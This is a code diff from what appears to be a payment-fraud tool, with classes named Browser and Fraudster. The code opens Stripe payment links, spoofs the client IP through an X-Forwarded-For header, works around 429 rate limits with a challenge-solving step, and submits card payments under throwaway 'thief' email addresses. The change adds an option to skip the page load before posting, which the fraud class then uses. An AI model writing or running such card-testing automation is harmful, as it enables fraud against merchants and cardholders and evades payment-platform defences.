@@ -62,11 +62,12 @@ class Browser:
     checks: int = 0
     answers: list[str] = field(default_factory=list)
 
-    def open_stripe(self, url: str) -> str:
+    def open_stripe(self, url: str, *, looks: bool = True) -> str:
         """Open the link and press its button; return Stripe's page, or nothing."""
         http = requests.Session()
         http.headers["X-Forwarded-For"] = self.address
-        http.get(url, timeout=60)
+        if looks:
+            http.get(url, timeout=60)
         answer = http.post(url, allow_redirects=False, timeout=60)
         if answer.status_code == 429 and self.solves:
             answer = self._do_check(http, url, answer)
@@ -132,7 +133,7 @@ class Fraudster:
     def _attempt(self, page: str, card: str, number: int, address: str) -> None:
         if not page:
             browser = Browser(address, self.solves)
-            page = browser.open_stripe(self.url)
+            page = browser.open_stripe(self.url, looks=False)
             self._count(f"button {browser.answers[-1]}")
         if page:
             status = pay(page, card, f"thief{number}@example{number % 97}.net", address)
